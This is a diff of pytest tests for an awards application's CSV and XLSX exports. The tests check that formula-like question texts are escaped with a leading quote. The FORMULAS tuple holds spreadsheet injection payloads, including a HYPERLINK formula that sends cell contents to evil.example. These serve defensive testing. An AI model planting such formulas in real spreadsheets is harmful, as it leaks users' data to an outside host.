@@ -12,6 +12,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from awards.choices import EditionPhase, EntryStanding
+from awards.exports import csv_cell
 from awards.models import Edition, Entry
 from awards.services import edition_set_phase
 from evaluation.selectors import round_for
@@ -127,6 +128,40 @@ def test_scores_export_for_chair_and_organisers_with_independence_and_conflicts(
     }
     for role in ("juror", "conflicted_juror", "expert"):
         assert export(world, role, "scores", app=jury).status_code == 403
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?d="&B2,"x")',
+    ' =HYPERLINK("https://evil.example/","x")',
+    "\n=1+1",
+    '\uff1dHYPERLINK("https://evil.example/","x")',
+    "@SUM(A1)",
+)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_question_texts_in_the_header_never_become_formulas(world, fmt):
+    """The answers export's header holds the organisers' question texts."""
+    for question, text in zip(world.questions, FORMULAS, strict=False):
+        question.text = text
+        question.save()
+    response = export(world, "organiser", "answers", fmt)
+    header = (read_csv if fmt == "csv" else read_xlsx)(response)[0]
+    if fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert all(cell.data_type == "s" for cell in sheet[1])
+    texts = header[2 : 2 + len(world.questions)]
+    assert texts == [f"'{text}" for text in FORMULAS[: len(texts)]]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_after_blanks_or_in_full_width_is_neutralised(text):
+    assert csv_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["Växjö", "10 - 2", "e-tjänster", "", "1 = 1"])
+def test_ordinary_text_is_left_as_it_is(text):
+    assert csv_cell(text) == text
 
 
 def test_unknown_kinds_and_formats_are_404(world):
